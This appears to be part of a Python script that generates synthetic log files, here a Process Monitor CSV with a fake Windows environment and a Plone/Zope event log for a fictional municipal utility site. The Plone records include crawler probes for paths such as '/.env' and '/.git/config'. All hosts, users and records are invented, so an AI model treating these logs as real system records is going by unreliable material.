        env = ["=::=::\\", "ALLUSERSPROFILE=C:\\ProgramData", f"APPDATA={USERDIR}\\AppData\\Roaming", "CommonProgramFiles=C:\\Program Files\\Common Files",
               "COMPUTERNAME=WS-HOFER-07", "ComSpec=C:\\Windows\\system32\\cmd.exe", f"HOMEPATH=\\Users\\t.hofer", f"LOCALAPPDATA={USERDIR}\\AppData\\Local",
               "NUMBER_OF_PROCESSORS=16", "OS=Windows_NT", "Path=C:\\Windows\\system32;C:\\Windows;C:\\Windows\\System32\\Wbem;C:\\Program Files\\Autodesk\\AutoCAD 2025\\",
               "PROCESSOR_ARCHITECTURE=AMD64", "SystemRoot=C:\\Windows", f"TEMP={USERDIR}\\AppData\\Local\\Temp", "USERDOMAIN=CORP", "USERNAME=t.hofer", f"USERPROFILE={USERDIR}", "windir=C:\\Windows"]
        head = ",".join(csvq(x) for x in [tod(L.t), child[0], pid, "Process Start", "", "SUCCESS"])
        detail = f"Parent PID: {PROCS['acad.exe'] if child[0] != 'chrome.exe' else PROCS['chrome.exe']}, Command line: {child[1]}, Current directory: {USERDIR}\\Documents\\, Environment: "
        lines = [head + "," + csvq(detail + "\n;\t" + "\n;\t".join(env))]
        text = lines[0].split("\n")
        L.emit(text[0], "Process Start", None, child[0])
        for t in text[1:]:
            L.emit(t, "env_line", None, child[0])
        row(child[0], "Thread Create", "", "SUCCESS", f"Thread ID: {st['tid']}", "Thread Create")
        row(child[0], "Load Image", "C:\\Windows\\System32\\ntdll.dll", "SUCCESS", f"Image Base: 0x7ff{g.hx(9)}, Image Size: 0x1f8000", "Load Image")
        if child[0] == "conhost.exe" and g.r.random() < 0.5:
            row(child[0], "Process Exit", "", "SUCCESS", f"Exit Status: {g.c([0, 0, 1, -1073741819])}, User Time: {g.r.uniform(0, 1):.7f} seconds, Kernel Time: {g.r.uniform(0, 1):.7f} seconds, Private Bytes: {g.num(10 ** 5, 10 ** 7):,}, Peak Private Bytes: {g.num(10 ** 6, 10 ** 7):,}, Working Set: {g.num(10 ** 6, 10 ** 7):,}, Peak Working Set: {g.num(10 ** 6, 10 ** 7):,}", "Process Exit")

    L.emit('\ufeff"Time of Day","Process Name","PID","Operation","Path","Result","Detail"', "csv_header")
    fns, ws = [acad, noise, start_proc], [40, 45, 0.6]
    while len(L.rows) < N_LINES:
        L.t += dt.timedelta(microseconds=int(g.r.expovariate(1 / 2500)))
        g.r.choices(fns, ws)[0]()
    del L.rows[N_LINES:]
    return L


# 20 --------------------------------------------------------------- Plone 4.3 (Zope 2.13, a buildout with a ZEO server and two clients) behind nginx, the public site of a municipal utility,
#   client1's var/log/instance1.log, Zope's event log: every record opens with a line of six dashes, then "2026-12-01T10:00:00 ERROR Zope.SiteErrorLog message"
#   (time, level, logger), and a record may carry on over more lines: the ZServer start-up's Hostname/Port lines, the "Traceback (innermost last):" of
#   the site error log with "  Module ..., line N, in f" frames, page template information ("   - Expression: ..."), the exception line; ZEO connecting and
#   losing the storage server, conflict errors, NotFound and Unauthorized errors from crawlers (the site's error_log keeps them: they were taken off its
#   ignored exceptions), template errors, log reopening at logrotate, restarts
@checked
def log_plone(seed):
    L = Log("plone_instance_event_log", seed, "full", True, True)
    g = L.g
    SITE = "https://www.stadtwerke-example.de"
    VH = "/VirtualHostBase/https/www.stadtwerke-example.de:443/Plone/VirtualHostRoot"
    EGGS = "/opt/plone/buildout-cache/eggs"
    st = {"conflicts": 0, "unresolved": 0, "start": L.t, "pid": g.num(1000, 9000)}

    def rec(lv, logger, msg, ev, cont=()):
        L.t += dt.timedelta(milliseconds=g.num(0, 900))
        L.emit("------", "record_separator", lv, logger)
        L.emit(f"{L.t:%Y-%m-%dT%H:%M:%S} {lv} {logger} {msg}", ev, lv, logger)
        for text, cev in cont:
            L.emit(text, cev, lv, logger)

    def frames(fs):
        return [(f"  Module {m}, line {n}, in {f}", "tb_module") for m, n, f in fs]

    def startup():
        st["pid"] = g.num(1000, 90000)
        st["start"] = L.t
        rec("INFO", "ZServer", f"HTTP server started at {ctime(L.t)}", "http_server_started", [("\tHostname: 0.0.0.0", "cont_hostname"), ("\tPort: 8081", "cont_port")])
        rec("INFO", "ZEO.ClientStorage", f"zeostorage ClientStorage (pid={st['pid']}) created RW/normal for storage: '1'", "zeo_created")
        rec("INFO", "ZEO.cache", "created temporary cache file '<fdopen>'", "zeo_cache_created")
        rec("INFO", "ZEO.ClientStorage", "zeostorage Testing connection <ManagedClientConnection ('127.0.0.1', 8100)>", "zeo_testing")
        rec("INFO", "ZEO.zrpc.Connection(C)", "(127.0.0.1:8100) received handshake 'Z3101'", "zeo_handshake")
        rec("INFO", "ZEO.ClientStorage", "zeostorage Server authentication protocol None", "zeo_auth_protocol")
        rec("INFO", "ZEO.ClientStorage", "zeostorage Connected to storage: ('localhost', 8100)", "zeo_connected")
        rec("INFO", "ZEO.ClientStorage", "zeostorage No verification necessary -- empty cache", "zeo_no_verification")
        rec("WARNING", "ZODB.blob", "Blob dir /var/plone/blobstorage/ has insecure mode setting", "blob_insecure")
        rec("INFO", "Plone", "OpenID system packages not installed, OpenID support not available", "openid_not_available")
        rec("WARNING", "Init", "Class Products.ATContentTypes.content.base.ATCTFileContent has a security declaration for nonexistent method 'manage_afterPUT'", "init_security_declaration")
        rec("INFO", "Products.PloneHotfix20210518", "Applied all patches.", "hotfix_applied")
        rec("INFO", "Products.PloneHotfix20200121", "Applied all patches.", "hotfix_applied")
        rec("INFO", "Zope", "Ready to handle requests", "ready")

    def notfound():
        path = g.c(["/favicon.ico", "/wp-login.php", "/.env", "/apple-touch-icon-precomposed.png", "/strom/tarife/alte-seite", f"/aktuelles/{g.c(['news', 'presse'])}-{g.num(2015, 2022)}-{g.num(1, 99)}",
                    "/xmlrpc.php", "/robots.txt/", "/service/formulare/zaehlerstand.pdf/view", "/.git/config"])
        ts = f"{epoch(L.t):.2f}{g.num(0, 9)}.{g.num(100000, 999999)}"
        leaf = path.rsplit("/", 1)[1] or "robots.txt"
        rec("ERROR", "Zope.SiteErrorLog", f"{ts} {SITE}{VH}{path}", "site_error_header",
            [("Traceback (innermost last):", "tb_header")] + frames([("ZPublisher.Publish", 138, "publish"), ("ZPublisher.BaseRequest", 523, "traverse"),
                                                                    ("ZPublisher.HTTPResponse", 727, "debugError")]) +
            [(f"NotFound:   <h2>Site Error</h2>", "tb_notfound_exc"), ("  <p>An error was encountered while publishing this resource.</p>", "tb_notfound_p"),
             ("  <p>", "tb_notfound_popen"), ("  <strong>Resource not found</strong></p>", "tb_notfound_strong"), ("", "blank"),
             (f"  Sorry, the requested resource does not exist.<p>Check the URL and try again.<p><b>Resource:</b> {leaf}", "tb_notfound_sorry"), ("  <hr noshade=\"noshade\"/>", "tb_notfound_hr"),
             ("", "blank"), ("  <p>Troubleshooting Suggestions</p>", "tb_notfound_troubleshooting")])

    def unauthorized():
        what = g.c(["manage_main", "manage_workspace", "folder_contents", "@@overview-controlpanel"])
        ts = f"{epoch(L.t):.2f}{g.num(0, 9)}.{g.num(100000, 999999)}"
        rec("ERROR", "Zope.SiteErrorLog", f"{ts} {SITE}{VH}/{g.c(['', 'strom/', 'wasser/', 'aktuelles/'])}{what}", "site_error_header",
            [("Traceback (innermost last):", "tb_header")] + frames([("ZPublisher.Publish", 127, "publish"), ("ZPublisher.BaseRequest", 623, "traverse"),
                                                                    ("Products.PluggableAuthService.PluggableAuthService", 235, "validate"),
                                                                    ("AccessControl.ImplPython", 773, "validate")] if what.startswith("manage") else
                                                                   [("ZPublisher.Publish", 127, "publish"), ("ZPublisher.BaseRequest", 523, "traverse"), ("ZPublisher.HTTPResponse", 727, "debugError")]) +
            [(f"Unauthorized: You are not allowed to access '{what}' in this context", "tb_unauthorized_exc")])

    def template_error():
        ts = f"{epoch(L.t):.2f}{g.num(0, 9)}.{g.num(100000, 999999)}"
        obj = g.c(["adventsmarkt", "tag-der-offenen-tuer", "infoabend-glasfaser", "baustelle-hauptstrasse"])
        rec("ERROR", "Zope.SiteErrorLog", f"{ts} {SITE}{VH}/termine/{obj}", "site_error_header",
            [("Traceback (innermost last):", "tb_header")] + frames([("ZPublisher.Publish", 138, "publish"), ("ZPublisher.mapply", 77, "mapply"), ("ZPublisher.Publish", 48, "call_object"),
                                                                    ("Products.CMFCore.FSPageTemplate", 240, "__call__"), ("Products.CMFCore.FSPageTemplate", 180, "pt_render"),
                                                                    ("Products.PageTemplates.PageTemplate", 79, "pt_render"), ("zope.pagetemplate.pagetemplate", 132, "pt_render"),
                                                                    ("zope.tal.talinterpreter", 271, "__call__"), ("zope.tal.talinterpreter", 343, "interpret"),
                                                                    ("zope.tales.tales", 696, "evaluate")]) +
            [(f"   - URL: file:{EGGS}/stadtwerke.theme-2.4.1-py2.7.egg/stadtwerke/theme/skins/stadtwerke_templates/event_view.pt", "tb_pt_url"), (f"   - Line {g.num(20, 90)}, Column {g.num(4, 30)}", "tb_pt_line"),
             ("   - Expression: <PythonExpr here.end().strftime('%d.%m.%Y')>", "tb_pt_expression"), ("   - Names:", "tb_pt_names"),
             ("      {'container': <PloneSite at /Plone>,", "tb_pt_names_first"), (f"       'context': <Event at /Plone/termine/{obj}>,", "tb_pt_names_item"),
             ("       'default': <object object at 0x7f3b2c1d8b60>,", "tb_pt_names_item"), (f"       'here': <Event at /Plone/termine/{obj}>,", "tb_pt_names_item"),
             ("       'loop': {},", "tb_pt_names_item"), ("       'nothing': None,", "tb_pt_names_item"), ("       'options': {'args': ()},", "tb_pt_names_item"),
             (f"       'request': <HTTPRequest, URL={SITE}/termine/{obj}/event_view>,", "tb_pt_names_item"), ("       'root': <Application at >,", "tb_pt_names_item"),
             ("       'template': <FSPageTemplate at /Plone/event_view used for /Plone/termine/" + obj + ">,", "tb_pt_names_item"),
             ("       'traverse_subpath': [],", "tb_pt_names_item"), ("       'user': <PropertiedUser 'Anonymous User'>}", "tb_pt_names_last")] +
            frames([("Products.PageTemplates.ZRPythonExpr", 49, "__call__")]) + [("   - __traceback_info__: here.end().strftime('%d.%m.%Y')", "tb_traceback_info")] +
            frames([("PythonExpr", 1, "<expression>")]) + [("AttributeError: 'NoneType' object has no attribute 'strftime'", "tb_attribute_error")])

    def conflict():
        st["conflicts"] += 1
        unres = g.r.random() < 0.1
        st["unresolved"] += unres
        oid = "0x" + g.hx(4)
        s1 = f"0x03e{g.hx(13)}"
        msg = (f"ConflictError at {VH}/{g.c(['@@search', 'portal_factory/Document/document.2026-12-01.1234/atct_edit', 'kontakt/kontaktformular', '@@ploneform-macros'])}: "
               f"database conflict error (oid {oid}, class {g.c(['BTrees.OOBTree.OOBucket', 'BTrees.IIBTree.IISet', 'Products.ZCatalog.Catalog.Catalog'])}, serial this txn started with {s1} "
               f"{L.t - dt.timedelta(seconds=1):%Y-%m-%d %H:%M:%S}.{us6(L.t)}, serial currently committed 0x03e{g.hx(13)} {L.t:%Y-%m-%d %H:%M:%S}.{us6(L.t)}) "
               f"({st['conflicts']} conflicts ({st['unresolved']} unresolved) since startup at {ctime(st['start'])})")
        rec("INFO" if not unres else "ERROR", "ZPublisher.Conflict", msg, "conflict_error")

    def zeo_blip():
        rec("INFO", "ZEO.ClientStorage", "zeostorage Disconnected from storage: \"('127.0.0.1', 8100)\"", "zeo_disconnected")
        for _ in range(g.num(1, 4)):
            L.tick(5)
            rec("WARNING", "ZEO.zrpc", f"({st['pid']}) CW: error connecting to ('127.0.0.1', 8100): ECONNREFUSED", "zeo_cw_error")
        rec("INFO", "ZEO.ClientStorage", "zeostorage Testing connection <ManagedClientConnection ('127.0.0.1', 8100)>", "zeo_testing")
        rec("INFO", "ZEO.zrpc.Connection(C)", "(127.0.0.1:8100) received handshake 'Z3101'", "zeo_handshake")
        rec("INFO", "ZEO.ClientStorage", "zeostorage Server authentication protocol None", "zeo_auth_protocol")
        rec("INFO", "ZEO.ClientStorage", "zeostorage Connected to storage: ('localhost', 8100)", "zeo_connected")
        rec("INFO", "ZEO.ClientStorage", f"zeostorage Verifying cache", "zeo_verifying")
        rec("INFO", "ZEO.ClientStorage", f"zeostorage endVerify finishing", "zeo_end_verify")
        rec("INFO", "ZEO.ClientStorage", f"zeostorage endVerify finished", "zeo_end_verify_finished")

    def csrf():
        rec("WARNING", "plone.protect", f"error parsing dom, failure to add csrf token to response for url {SITE}/{g.c(['@@download/file/Preisblatt_2027.pdf', 'kontakt/anfahrt/@@images/image/preview', 'rss.xml'])}", "csrf_parse_error")

    def misc():
        r = g.r.random()
        if r < 0.4:
            rec("INFO", "Products.CMFPlone", f"Unable to find image for {g.c(['news-item', 'event', 'file'])} at /Plone/{g.c(['aktuelles', 'termine', 'service'])}/{g.alnum(6)}", "unable_find_image")
        elif r < 0.7:
            rec("WARNING", "OFS.Uninstalled", f"Could not import class '{g.c(['ATBlob', 'PloneArticle', 'FlashMovie'])}' from module '{g.c(['plone.app.blob.content', 'Products.PloneArticle.content', 'Products.PloneFlashUpload'])}'", "could_not_import")
        else:
            rec("INFO", "plone.app.caching", f"Purged {g.num(1, 12)} URLs from caching proxy http://127.0.0.1:6081", "purged_urls")

    def reopen():
        rec("INFO", "SignalHandler", "Caught signal SIGUSR2", "caught_signal")
        rec("INFO", "Z2", "Reopening log files", "reopening_logs")

    def restart():
        rec("INFO", "SignalHandler", "Caught signal SIGTERM", "caught_signal")
        rec("INFO", "Z2", "Shutting down fast", "shutting_down_fast")
        rec("INFO", "ZServer", "closing HTTP to new connections", "closing_http")
        rec("INFO", "ZEO.ClientStorage", "zeostorage Disconnected from storage: \"('127.0.0.1', 8100)\"", "zeo_disconnected")
        L.tick(20)
        startup()

    startup()
    ev = [(22, notfound), (8, unauthorized), (3, template_error), (12, conflict), (0.6, zeo_blip), (6, csrf), (14, misc), (0.3, reopen), (0.15, restart)]
    return L.run(slowed(L, ev, 60), None)


LOGS = [log_meraki, log_sophos, log_yugabyte, log_proxysql, log_tibco, log_meson, log_rust, log_mumble, log_mpv, log_uboot,
        log_qe, log_osquery, log_sysmon, log_tailscale, log_qmail, log_rsyncd, log_robocopy, log_munki, log_procmon, log_plone]


if __name__ == "__main__":
    main(LOGS, WORK)
